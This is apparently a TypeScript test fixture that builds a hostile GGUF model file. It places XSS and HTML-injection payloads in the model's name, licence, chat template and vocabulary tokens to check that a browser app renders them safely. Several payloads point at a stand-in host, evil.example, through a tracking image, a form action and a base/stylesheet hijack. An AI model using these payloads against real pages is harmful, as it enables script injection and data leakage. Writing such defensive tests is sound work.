/** A model file that wants to run script in the page: its name, licence, template and every word that it says. */
import type { MetadataInput } from '../../src/gguf/writer.ts';
import { firstTextToken, randomVocabulary } from '../../src/models/random_vocabulary.ts';
import { fixtures, randomGgufBytes } from '../fixtures/random_gguf.ts';

/** Each sets `window.pwned`, calls out, or takes the page's place. */
const lures = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '<svg onload="window.pwned=1"><use href="data:image/svg+xml,x"/></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '[link](javascript:window.pwned=1)',
  '<a href="javascript:window.pwned=1">link</a>',
  '![picture](https://evil.example/seen.png)',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><button>Send</button></form>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></math>',
  '<div id="question" style="position:fixed;inset:0">x</div>',
  '</div></article><h1 onclick="window.pwned=1">webgguf</h1>',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '```html\n<script>window.pwned=1</script>\n```\n',
];
export const hostileName = `Evil ${lures[0]}${lures[1]}`;

const chatTemplate = `{%- for message in messages -%}{{- '${lures[1]}' + message.content -}}{%- endfor -%}`;

export function hostileGgufBytes(): Promise<Uint8Array<ArrayBuffer>> {
  const { embeddingLength, feedForwardLength, vocabLength } = { ...fixtures.alia, vocabLength: 512 };
  const vocabulary = new Map(randomVocabulary(vocabLength));
  const pieces = [...(vocabulary.get('tokenizer.ggml.tokens') as readonly string[])];
  // single letters and syllables stay: a question is made of them
  for (let i = firstTextToken + 150; i < vocabLength; i++) pieces[i] = `${lures[i % lures.length]}${i}\n\n`;
  const metadata: Record<string, MetadataInput> = {
    'general.name': hostileName,
    'general.license': lures[0]!,
    'tokenizer.ggml.tokens': pieces,
    'tokenizer.chat_template': chatTemplate,
  };
  return randomGgufBytes({ embeddingLength, feedForwardLength, vocabLength, metadata });
}
